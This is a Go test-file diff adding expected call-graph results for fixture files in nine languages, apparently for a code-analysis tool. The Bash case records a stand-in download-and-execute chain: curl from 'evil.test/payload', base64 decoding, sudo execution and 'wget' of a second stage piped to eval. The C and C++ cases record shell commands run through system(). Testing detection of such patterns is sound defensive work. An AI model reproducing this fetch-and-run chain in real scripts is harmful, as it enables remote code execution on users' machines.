@@ -725,6 +725,425 @@ var testcases = []callgraphTestcase{
 			{Namespace: "fs//readFileSync", CallerNamespace: "fixtures/testJavascript.js", CallerIdentifierContent: "fs.readFileSync"},
 		},
 	},
+	{
+		Language: core.LanguageCodeTypescript,
+		FilePath: "fixtures/testTypescript.ts",
+		ExpectedAssignmentGraph: map[string][]string{
+			"axios": {},
+			"log":   {"console//log"},
+			"warn":  {"console//warn"},
+			"fs":    {},
+			"fixtures/testTypescript.ts//simpleFunction": {},
+			"fixtures/testTypescript.ts//HttpService":    {},
+			"fixtures/testTypescript.ts//service":        {"fixtures/testTypescript.ts//HttpService"},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testTypescript.ts//simpleFunction": {
+				{"log", [][]string{}},
+			},
+			"fixtures/testTypescript.ts//arrowFunc": {
+				{"warn", [][]string{}},
+			},
+			"fixtures/testTypescript.ts//BaseService//describe": {
+				{"log", [][]string{}},
+			},
+			"fixtures/testTypescript.ts//HttpService//fetch": {
+				{"axios//get", [][]string{}},
+			},
+			"fixtures/testTypescript.ts//HttpService//greet": {
+				{"fixtures/testTypescript.ts//HttpService//this//describe", [][]string{}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testTypescript.ts//simpleFunction", CallerNamespace: "fixtures/testTypescript.ts", CallerIdentifierContent: "simpleFunction"},
+			{Namespace: "console//log", CallerNamespace: "fixtures/testTypescript.ts//simpleFunction", CallerIdentifierContent: "log"},
+			{Namespace: "console//warn", CallerNamespace: "fixtures/testTypescript.ts//arrowFunc", CallerIdentifierContent: "warn"},
+			{Namespace: "fs//readFileSync", CallerNamespace: "fixtures/testTypescript.ts", CallerIdentifierContent: "fs.readFileSync"},
+		},
+	},
+	{
+		Language: core.LanguageCodeRust,
+		FilePath: "fixtures/testRust.rs",
+		ExpectedAssignmentGraph: map[string][]string{
+			"json":                              {"serde_json"},
+			"HashMap":                           {"std//collections//HashMap"},
+			"fixtures/testRust.rs//run//client": {"fixtures/testRust.rs//Client"},
+			"fixtures/testRust.rs//run//values": {"std//collections//HashMap"},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testRust.rs": {
+				{"std//io//*", [][]string{}},
+				{"fixtures/testRust.rs//encode", [][]string{}},
+				{"fixtures/testRust.rs//run", [][]string{}},
+				{"fixtures/testRust.rs//main", [][]string{}},
+			},
+			"fixtures/testRust.rs//Client//fetch": {
+				{"fixtures/testRust.rs//Client//url", [][]string{{"fixtures/testRust.rs//Client//fetch//path"}}},
+				{"reqwest//blocking//get", [][]string{{"fixtures/testRust.rs//Client//fetch//url"}}},
+				{"fixtures/testRust.rs//Client//log", [][]string{{"\"fetched\""}}},
+			},
+			"fixtures/testRust.rs//encode": {
+				{"serde_json//to_string", [][]string{{"fixtures/testRust.rs//encode//values"}}},
+				{"json::to_string(values)//unwrap", [][]string{}},
+			},
+			"fixtures/testRust.rs//run": {
+				{"std//collections//HashMap//new", [][]string{}},
+				{"fixtures/testRust.rs//Client//new", [][]string{{"\"https://example.com\""}}},
+				{"fixtures/testRust.rs//Client//fetch", [][]string{{"\"status\""}}},
+				{"fixtures/testRust.rs//encode", [][]string{{"std//collections//HashMap"}}},
+				{"std//fs//write", [][]string{{"\"out.json\""}, {"fixtures/testRust.rs//run//encoded"}}},
+				{"\"42\"//parse", [][]string{}},
+			},
+			"fixtures/testRust.rs//main": {
+				{"fixtures/testRust.rs//run", [][]string{}},
+				{"reqwest//get", [][]string{{"\"https://example.com\""}}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testRust.rs//main", CallerNamespace: "fixtures/testRust.rs", CallerIdentifierContent: ""},
+			{Namespace: "fixtures/testRust.rs//run", CallerNamespace: "fixtures/testRust.rs//main", CallerIdentifierContent: "run"},
+			{Namespace: "reqwest//get", CallerNamespace: "fixtures/testRust.rs//main", CallerIdentifierContent: "reqwest::get"},
+			{Namespace: "fixtures/testRust.rs//Client//fetch", CallerNamespace: "fixtures/testRust.rs//run", CallerIdentifierContent: "client.fetch"},
+			{Namespace: "reqwest//blocking//get", CallerNamespace: "fixtures/testRust.rs//Client//fetch", CallerIdentifierContent: "reqwest::blocking::get"},
+			{Namespace: "fixtures/testRust.rs//Client//log", CallerNamespace: "fixtures/testRust.rs//Client//fetch", CallerIdentifierContent: "Self::log"},
+		},
+	},
+	{
+		Language: core.LanguageCodeRuby,
+		FilePath: "fixtures/testRuby.rb",
+		ExpectedAssignmentGraph: map[string][]string{
+			"fixtures/testRuby.rb//run//client":                  {"fixtures/testRuby.rb//Api//Client"},
+			"fixtures/testRuby.rb//Api//Client//self//@http":     {"Net//HTTP"},
+			"fixtures/testRuby.rb//Api//Client//self//@base_url": {"fixtures/testRuby.rb//Api//Client//initialize//base_url"},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testRuby.rb": {
+				{"json//*", [][]string{}},
+				{"net//http//*", [][]string{}},
+				{".//helpers//formatter//*", [][]string{}},
+				{"fixtures/testRuby.rb//run", [][]string{}},
+			},
+			"fixtures/testRuby.rb//Api//Client": {
+				{"fixtures/testRuby.rb//Api//Client//initialize", [][]string{}},
+			},
+			"fixtures/testRuby.rb//Api//Client//initialize": {
+				{"Net//HTTP//new", [][]string{{"fixtures/testRuby.rb//Api//Client//initialize//base_url"}}},
+			},
+			"fixtures/testRuby.rb//Api//Client//build": {
+				{"fixtures/testRuby.rb//Api//Client", [][]string{{"fixtures/testRuby.rb//Api//Client//build//url"}}},
+			},
+			"fixtures/testRuby.rb//Api//Client//fetch": {
+				{"fixtures/testRuby.rb//Api//Client//self//url_for", [][]string{{"fixtures/testRuby.rb//Api//Client//fetch//path"}}},
+				{"Net//HTTP//get", [][]string{{}}},
+				{"fixtures/testRuby.rb//Api//Client//self//log", [][]string{{"\"fetched\""}}},
+				{"JSON//parse", [][]string{{"fixtures/testRuby.rb//Api//Client//fetch//response"}}},
+			},
+			"fixtures/testRuby.rb//Api//Client//self//log": {
+				{"fixtures/testRuby.rb//Api//Client//log", [][]string{}},
+			},
+			"fixtures/testRuby.rb//Api//Client//url_for": {
+				{"format", [][]string{{"\"%s/%s\""}, {"fixtures/testRuby.rb//Api//Client//initialize//base_url"}, {"fixtures/testRuby.rb//Api//Client//url_for//path"}}},
+			},
+			"fixtures/testRuby.rb//run": {
+				{"fixtures/testRuby.rb//Api//Client", [][]string{{"\"https://example.com\""}}},
+				{"fixtures/testRuby.rb//Api//Client//fetch", [][]string{{"\"status\""}}},
+				{"fixtures/testRuby.rb//encode", [][]string{{}}},
+			},
+			"fixtures/testRuby.rb//encode": {
+				{"payload//to_json", [][]string{}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testRuby.rb//run", CallerNamespace: "fixtures/testRuby.rb", CallerIdentifierContent: "run"},
+			{Namespace: "fixtures/testRuby.rb//Api//Client", CallerNamespace: "fixtures/testRuby.rb//run", CallerIdentifierContent: "new"},
+			{Namespace: "fixtures/testRuby.rb//Api//Client//initialize", CallerNamespace: "fixtures/testRuby.rb//Api//Client", CallerIdentifierContent: ""},
+			{Namespace: "Net//HTTP//new", CallerNamespace: "fixtures/testRuby.rb//Api//Client//initialize", CallerIdentifierContent: "new"},
+			{Namespace: "fixtures/testRuby.rb//Api//Client//fetch", CallerNamespace: "fixtures/testRuby.rb//run", CallerIdentifierContent: "fetch"},
+			{Namespace: "fixtures/testRuby.rb//Api//Client//log", CallerNamespace: "fixtures/testRuby.rb//Api//Client//self//log", CallerIdentifierContent: ""},
+			{Namespace: "puts", CallerNamespace: "fixtures/testRuby.rb//Api//Client//log", CallerIdentifierContent: "puts"},
+		},
+	},
+	{
+		Language: core.LanguageCodePhp,
+		FilePath: "fixtures/testPhp.php",
+		ExpectedAssignmentGraph: map[string][]string{
+			"Client":                              {"GuzzleHttp//Client"},
+			"fixtures/testPhp.php//run//$gateway": {"fixtures/testPhp.php//Gateway"},
+			"fixtures/testPhp.php//Gateway//$this//client": {"GuzzleHttp//Client"},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testPhp.php": {
+				{"./helpers.php//*", [][]string{}},
+				{"fixtures/testPhp.php//run", [][]string{}},
+			},
+			"fixtures/testPhp.php//Gateway": {
+				{"fixtures/testPhp.php//Gateway//__construct", [][]string{}},
+			},
+			"fixtures/testPhp.php//Gateway//__construct": {
+				{"GuzzleHttp//Client", [][]string{{"fixtures/testPhp.php//Gateway//__construct//$baseUrl"}}},
+			},
+			"fixtures/testPhp.php//Gateway//create": {
+				{"fixtures/testPhp.php//Gateway", [][]string{{"fixtures/testPhp.php//Gateway//create//$url"}}},
+			},
+			"fixtures/testPhp.php//Gateway//fetch": {
+				{"fixtures/testPhp.php//Gateway//$this//urlFor", [][]string{{"fixtures/testPhp.php//Gateway//fetch//$path"}}},
+				{"GuzzleHttp//Client//get", [][]string{{}}},
+				{"fixtures/testPhp.php//Gateway//log", [][]string{{"\"fetched\""}}},
+				{"json_decode", [][]string{{"fixtures/testPhp.php//Gateway//fetch//$response"}}},
+			},
+			"fixtures/testPhp.php//Gateway//urlFor": {
+				{"sprintf", [][]string{{"\"%s/%s\""}, {}, {"fixtures/testPhp.php//Gateway//urlFor//$path"}}},
+			},
+			"fixtures/testPhp.php//encrypt": {
+				{"openssl_encrypt", [][]string{{"fixtures/testPhp.php//encrypt//$payload"}, {"\"aes-256-cbc\""}, {"fixtures/testPhp.php//encrypt//$key"}}},
+			},
+			"fixtures/testPhp.php//run": {
+				{"fixtures/testPhp.php//Gateway", [][]string{{"\"https://example.com\""}}},
+				{"fixtures/testPhp.php//Gateway//fetch", [][]string{{"\"status\""}}},
+				{"Illuminate//Support//collect", [][]string{{}}},
+				{"fixtures/testPhp.php//encrypt", [][]string{{"\"secret\""}, {"\"key\""}}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testPhp.php//run", CallerNamespace: "fixtures/testPhp.php", CallerIdentifierContent: "run"},
+			{Namespace: "fixtures/testPhp.php//Gateway", CallerNamespace: "fixtures/testPhp.php//run", CallerIdentifierContent: "Gateway"},
+			{Namespace: "fixtures/testPhp.php//Gateway//__construct", CallerNamespace: "fixtures/testPhp.php//Gateway", CallerIdentifierContent: ""},
+			{Namespace: "GuzzleHttp//Client", CallerNamespace: "fixtures/testPhp.php//Gateway//__construct", CallerIdentifierContent: "Client"},
+			{Namespace: "fixtures/testPhp.php//Gateway//fetch", CallerNamespace: "fixtures/testPhp.php//run", CallerIdentifierContent: "fetch"},
+			{Namespace: "GuzzleHttp//Client//get", CallerNamespace: "fixtures/testPhp.php//Gateway//fetch", CallerIdentifierContent: "get"},
+			{Namespace: "fixtures/testPhp.php//Gateway//urlFor", CallerNamespace: "fixtures/testPhp.php//Gateway//$this//urlFor", CallerIdentifierContent: ""},
+			{Namespace: "fixtures/testPhp.php//Gateway//log", CallerNamespace: "fixtures/testPhp.php//Gateway//fetch", CallerIdentifierContent: "log"},
+			{Namespace: "Illuminate//Support//collect", CallerNamespace: "fixtures/testPhp.php//run", CallerIdentifierContent: "collect"},
+			{Namespace: "openssl_encrypt", CallerNamespace: "fixtures/testPhp.php//encrypt", CallerIdentifierContent: "openssl_encrypt"},
+		},
+	},
+	{
+		Language: core.LanguageCodeCsharp,
+		FilePath: "fixtures/testCsharp.cs",
+		ExpectedAssignmentGraph: map[string][]string{
+			"Json": {"Newtonsoft//Json//JsonConvert"},
+			"fixtures/testCsharp.cs//Program//Main//uploader": {"fixtures/testCsharp.cs//Uploader"},
+			"fixtures/testCsharp.cs//Uploader//this//client":  {"AmazonS3Client"},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testCsharp.cs": {
+				{"System//*", [][]string{}},
+				{"Amazon//S3//*", [][]string{}},
+			},
+			"fixtures/testCsharp.cs//Uploader": {
+				{"fixtures/testCsharp.cs//Uploader//Uploader", [][]string{}},
+			},
+			"fixtures/testCsharp.cs//Uploader//Uploader": {
+				{"AmazonS3Client", [][]string{{"fixtures/testCsharp.cs//Uploader//Uploader//region"}}},
+			},
+			"fixtures/testCsharp.cs//Uploader//Create": {
+				{"fixtures/testCsharp.cs//Uploader", [][]string{{"fixtures/testCsharp.cs//Uploader//Create//region"}}},
+			},
+			"fixtures/testCsharp.cs//Uploader//Upload": {
+				{"Newtonsoft//Json//JsonConvert//SerializeObject", [][]string{{"fixtures/testCsharp.cs//Uploader//Upload//payload"}}},
+				{"AmazonS3Client//PutObject", [][]string{{"fixtures/testCsharp.cs//Uploader//Upload//bucket"}, {"fixtures/testCsharp.cs//Uploader//Upload//body"}}},
+				{"fixtures/testCsharp.cs//Uploader//Log", [][]string{{"\"uploaded\""}}},
+			},
+			"fixtures/testCsharp.cs//Uploader//Log": {
+				{"Console//WriteLine", [][]string{{"fixtures/testCsharp.cs//Uploader//Log//message"}}},
+			},
+			"fixtures/testCsharp.cs//Program//Main": {
+				{"fixtures/testCsharp.cs//Uploader", [][]string{{"\"us-east-1\""}}},
+				{"fixtures/testCsharp.cs//Uploader//Upload", [][]string{{"\"reports\""}, {"fixtures/testCsharp.cs//Program//Main//args"}}},
+				{"fixtures/testCsharp.cs//Uploader//Create", [][]string{{"\"eu-west-1\""}}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testCsharp.cs//Uploader", CallerNamespace: "fixtures/testCsharp.cs//Program//Main", CallerIdentifierContent: "Uploader"},
+			{Namespace: "fixtures/testCsharp.cs//Uploader//Uploader", CallerNamespace: "fixtures/testCsharp.cs//Uploader", CallerIdentifierContent: ""},
+			{Namespace: "AmazonS3Client", CallerNamespace: "fixtures/testCsharp.cs//Uploader//Uploader", CallerIdentifierContent: "AmazonS3Client"},
+			{Namespace: "fixtures/testCsharp.cs//Uploader//Upload", CallerNamespace: "fixtures/testCsharp.cs//Program//Main", CallerIdentifierContent: "Upload"},
+			{Namespace: "AmazonS3Client//PutObject", CallerNamespace: "fixtures/testCsharp.cs//Uploader//Upload", CallerIdentifierContent: "PutObject"},
+			{Namespace: "Newtonsoft//Json//JsonConvert//SerializeObject", CallerNamespace: "fixtures/testCsharp.cs//Uploader//Upload", CallerIdentifierContent: "SerializeObject"},
+			{Namespace: "fixtures/testCsharp.cs//Uploader//Log", CallerNamespace: "fixtures/testCsharp.cs//Uploader//Upload", CallerIdentifierContent: "Log"},
+			{Namespace: "Console//WriteLine", CallerNamespace: "fixtures/testCsharp.cs//Uploader//Log", CallerIdentifierContent: "WriteLine"},
+			{Namespace: "fixtures/testCsharp.cs//Uploader//Create", CallerNamespace: "fixtures/testCsharp.cs//Program//Main", CallerIdentifierContent: "Create"},
+		},
+	},
+	{
+		Language: core.LanguageCodeKotlin,
+		FilePath: "fixtures/testKotlin.kt",
+		ExpectedAssignmentGraph: map[string][]string{
+			"HttpRequest": {"okhttp3//Request"},
+			"fixtures/testKotlin.kt//Gateway//client": {"okhttp3//OkHttpClient"},
+			"fixtures/testKotlin.kt//main//gateway":   {"fixtures/testKotlin.kt//Gateway"},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testKotlin.kt": {
+				{"kotlinx//coroutines//*", [][]string{}},
+				{"fixtures/testKotlin.kt//main", [][]string{}},
+			},
+			"fixtures/testKotlin.kt//Gateway": {
+				{"okhttp3//OkHttpClient", [][]string{}},
+			},
+			"fixtures/testKotlin.kt//Gateway//fetch": {
+				{"okhttp3//Request//Builder", [][]string{}},
+				{"okhttp3//Request//Builder//url", [][]string{{"fixtures/testKotlin.kt//Gateway//baseUrl", "fixtures/testKotlin.kt//Gateway//fetch//path"}}},
+				{"fixtures/testKotlin.kt//Gateway//log", [][]string{{"\"fetching\""}}},
+				{"okhttp3//OkHttpClient//newCall", [][]string{{"fixtures/testKotlin.kt//Gateway//fetch//request"}}},
+			},
+			"fixtures/testKotlin.kt//Gateway//log": {
+				{"println", [][]string{{"fixtures/testKotlin.kt//Gateway//log//message"}}},
+			},
+			"fixtures/testKotlin.kt//Gateway//create": {
+				{"fixtures/testKotlin.kt//Gateway", [][]string{{"fixtures/testKotlin.kt//Gateway//create//url"}}},
+			},
+			"fixtures/testKotlin.kt//encrypt": {
+				{"javax//crypto//Cipher//getInstance", [][]string{{"\"AES\""}}},
+				{"fixtures/testKotlin.kt//encrypt//cipher//doFinal", [][]string{{"fixtures/testKotlin.kt//encrypt//data"}}},
+			},
+			"fixtures/testKotlin.kt//main": {
+				{"fixtures/testKotlin.kt//Gateway", [][]string{{"\"https://example.com\""}}},
+				{"fixtures/testKotlin.kt//Gateway//fetch", [][]string{{"\"/status\""}}},
+				{"fixtures/testKotlin.kt//Gateway//create", [][]string{{"\"https://backup.example.com\""}}},
+				{"ByteArray", [][]string{{"16"}}},
+				{"fixtures/testKotlin.kt//encrypt", [][]string{{"ByteArray"}}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testKotlin.kt//main", CallerNamespace: "fixtures/testKotlin.kt", CallerIdentifierContent: ""},
+			{Namespace: "fixtures/testKotlin.kt//Gateway", CallerNamespace: "fixtures/testKotlin.kt//main", CallerIdentifierContent: "Gateway"},
+			{Namespace: "okhttp3//OkHttpClient", CallerNamespace: "fixtures/testKotlin.kt//Gateway", CallerIdentifierContent: "OkHttpClient"},
+			{Namespace: "fixtures/testKotlin.kt//Gateway//fetch", CallerNamespace: "fixtures/testKotlin.kt//main", CallerIdentifierContent: "fetch"},
+			{Namespace: "okhttp3//Request//Builder", CallerNamespace: "fixtures/testKotlin.kt//Gateway//fetch", CallerIdentifierContent: "Builder"},
+			{Namespace: "okhttp3//OkHttpClient//newCall", CallerNamespace: "fixtures/testKotlin.kt//Gateway//fetch", CallerIdentifierContent: "newCall"},
+			{Namespace: "fixtures/testKotlin.kt//Gateway//log", CallerNamespace: "fixtures/testKotlin.kt//Gateway//fetch", CallerIdentifierContent: "log"},
+			{Namespace: "fixtures/testKotlin.kt//Gateway//create", CallerNamespace: "fixtures/testKotlin.kt//main", CallerIdentifierContent: "create"},
+			{Namespace: "fixtures/testKotlin.kt//encrypt", CallerNamespace: "fixtures/testKotlin.kt//main", CallerIdentifierContent: "encrypt"},
+			{Namespace: "javax//crypto//Cipher//getInstance", CallerNamespace: "fixtures/testKotlin.kt//encrypt", CallerIdentifierContent: "getInstance"},
+		},
+	},
+	{
+		Language: core.LanguageCodeC,
+		FilePath: "fixtures/testC.c",
+		ExpectedAssignmentGraph: map[string][]string{
+			"fixtures/testC.c//digest//ctx": {"EVP_MD_CTX"},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testC.c": {
+				{"stdlib.h//*", [][]string{}},
+				{"dlfcn.h//*", [][]string{}},
+				{"openssl//evp.h//*", [][]string{}},
+				{".//util.h//*", [][]string{}},
+				{"fixtures/testC.c//digest", [][]string{}},
+				{"fixtures/testC.c//load_plugin", [][]string{}},
+				{"fixtures/testC.c//run", [][]string{}},
+				{"fixtures/testC.c//main", [][]string{}},
+			},
+			"fixtures/testC.c//digest": {
+				{"EVP_MD_CTX_new", [][]string{}},
+				{"EVP_sha256", [][]string{}},
+				{"EVP_DigestInit_ex", [][]string{{"EVP_MD_CTX"}, {}, {"NULL"}}},
+				{"EVP_DigestUpdate", [][]string{{"EVP_MD_CTX"}, {"fixtures/testC.c//digest//data"}, {"fixtures/testC.c//digest//len"}}},
+				{"EVP_MD_CTX_free", [][]string{{"EVP_MD_CTX"}}},
+			},
+			"fixtures/testC.c//load_plugin": {
+				{"dlopen", [][]string{{"fixtures/testC.c//load_plugin//path"}, {"fixtures/testC.c//load_plugin//RTLD_NOW"}}},
+				{"fixtures/testC.c//run", [][]string{{"\"echo loaded\""}}},
+			},
+			"fixtures/testC.c//run": {
+				{"system", [][]string{{"fixtures/testC.c//run//cmd"}}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testC.c//load_plugin", CallerNamespace: "fixtures/testC.c//main", CallerIdentifierContent: "load_plugin"},
+			{Namespace: "dlopen", CallerNamespace: "fixtures/testC.c//load_plugin", CallerIdentifierContent: "dlopen"},
+			{Namespace: "fixtures/testC.c//run", CallerNamespace: "fixtures/testC.c//load_plugin", CallerIdentifierContent: "run"},
+			{Namespace: "system", CallerNamespace: "fixtures/testC.c//run", CallerIdentifierContent: "system"},
+			{Namespace: "EVP_DigestInit_ex", CallerNamespace: "fixtures/testC.c//digest", CallerIdentifierContent: "EVP_DigestInit_ex"},
+		},
+	},
+	{
+		Language: core.LanguageCodeCpp,
+		FilePath: "fixtures/testCpp.cpp",
+		ExpectedAssignmentGraph: map[string][]string{
+			"fixtures/testCpp.cpp//main//runner":  {"fixtures/testCpp.cpp//native//Runner"},
+			"fixtures/testCpp.cpp//main//created": {"fixtures/testCpp.cpp//native//Runner"},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testCpp.cpp": {
+				{"cstdlib//*", [][]string{}},
+				{"string//*", [][]string{}},
+				{"./crypto.hpp//*", [][]string{}},
+				{"fixtures/testCpp.cpp//native//execute", [][]string{}},
+				{"fixtures/testCpp.cpp//main", [][]string{}},
+			},
+			"fixtures/testCpp.cpp//native//execute": {
+				{"std//string//c_str", [][]string{}},
+				{"std//system", [][]string{{}}},
+			},
+			"fixtures/testCpp.cpp//native//Runner": {
+				{"fixtures/testCpp.cpp//native//Runner//constructor", [][]string{}},
+			},
+			"fixtures/testCpp.cpp//native//Runner//run": {
+				{"fixtures/testCpp.cpp//native//Runner//log", [][]string{{"std//string"}}},
+				{"fixtures/testCpp.cpp//native//execute", [][]string{{"fixtures/testCpp.cpp//native//Runner//run//shell_", "\" -c \"", "std//string"}}},
+			},
+			"fixtures/testCpp.cpp//native//Runner//log": {
+				{"std//string//c_str", [][]string{}},
+				{"puts", [][]string{{}}},
+			},
+			"fixtures/testCpp.cpp//native//Runner//create": {
+				{"fixtures/testCpp.cpp//native//Runner", [][]string{{"\"/bin/sh\""}}},
+			},
+			"fixtures/testCpp.cpp//main": {
+				{"fixtures/testCpp.cpp//native//Runner", [][]string{{"\"/bin/bash\""}}},
+				{"fixtures/testCpp.cpp//native//Runner//run", [][]string{{"\"id\""}}},
+				{"fixtures/testCpp.cpp//native//Runner//create", [][]string{}},
+				{"fixtures/testCpp.cpp//native//Runner//run", [][]string{{"\"whoami\""}}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testCpp.cpp//native//Runner", CallerNamespace: "fixtures/testCpp.cpp//main", CallerIdentifierContent: "native::Runner"},
+			{Namespace: "fixtures/testCpp.cpp//native//Runner//constructor", CallerNamespace: "fixtures/testCpp.cpp//native//Runner", CallerIdentifierContent: ""},
+			{Namespace: "fixtures/testCpp.cpp//native//Runner//run", CallerNamespace: "fixtures/testCpp.cpp//main", CallerIdentifierContent: "run"},
+			{Namespace: "fixtures/testCpp.cpp//native//execute", CallerNamespace: "fixtures/testCpp.cpp//native//Runner//run", CallerIdentifierContent: "execute"},
+			{Namespace: "std//system", CallerNamespace: "fixtures/testCpp.cpp//native//execute", CallerIdentifierContent: "std::system"},
+			{Namespace: "puts", CallerNamespace: "fixtures/testCpp.cpp//native//Runner//log", CallerIdentifierContent: "::puts"},
+		},
+	},
+	{
+		Language: core.LanguageCodeBash,
+		FilePath: "fixtures/testBash.sh",
+		ExpectedAssignmentGraph: map[string][]string{
+			"fixtures/testBash.sh//INSTALL_DIR":   {"/opt/agent"},
+			"fixtures/testBash.sh//DOWNLOADER":    {"curl"},
+			"fixtures/testBash.sh//download//url": {},
+		},
+		ExpectedCallGraph: map[string][]expectedCallgraphRefs{
+			"fixtures/testBash.sh": {
+				{"./lib/common.sh//*", [][]string{}},
+				{"set", [][]string{{"-euo"}, {"pipefail"}}},
+				{"fixtures/testBash.sh//install", [][]string{}},
+			},
+			"fixtures/testBash.sh//download": {
+				{"curl", [][]string{{"-fsSL"}, {"fixtures/testBash.sh//download//url"}, {"-o"}, {"/tmp/payload"}}},
+			},
+			"fixtures/testBash.sh//install": {
+				{"fixtures/testBash.sh//download", [][]string{{"https://evil.test/payload"}}},
+				{"echo", [][]string{{"\"ZWNobyBoaQ==\""}}},
+				{"base64", [][]string{{"-d"}}},
+				{"chmod", [][]string{{"+x"}, {"/tmp/run.sh"}}},
+				{"sudo", [][]string{{"/tmp/run.sh"}, {"/opt/agent"}}},
+				{"/tmp/run.sh", [][]string{{"/opt/agent"}}},
+				{"wget", [][]string{{"-qO-"}, {"https://evil.test/stage2"}}},
+				{"eval", [][]string{{}}},
+			},
+		},
+		ExpectedDfsResults: []dfsResultExpectation{
+			{Namespace: "fixtures/testBash.sh//install", CallerNamespace: "fixtures/testBash.sh", CallerIdentifierContent: "install"},
+			{Namespace: "fixtures/testBash.sh//download", CallerNamespace: "fixtures/testBash.sh//install", CallerIdentifierContent: "download"},
+			{Namespace: "curl", CallerNamespace: "fixtures/testBash.sh//download", CallerIdentifierContent: "\"$DOWNLOADER\""},
+			{Namespace: "base64", CallerNamespace: "fixtures/testBash.sh//install", CallerIdentifierContent: "base64"},
+			{Namespace: "/tmp/run.sh", CallerNamespace: "fixtures/testBash.sh//install", CallerIdentifierContent: "/tmp/run.sh"},
+			{Namespace: "wget", CallerNamespace: "fixtures/testBash.sh//install", CallerIdentifierContent: "wget"},
+		},
+	},
 }
 
 func TestCallgraphPlugin(t *testing.T) {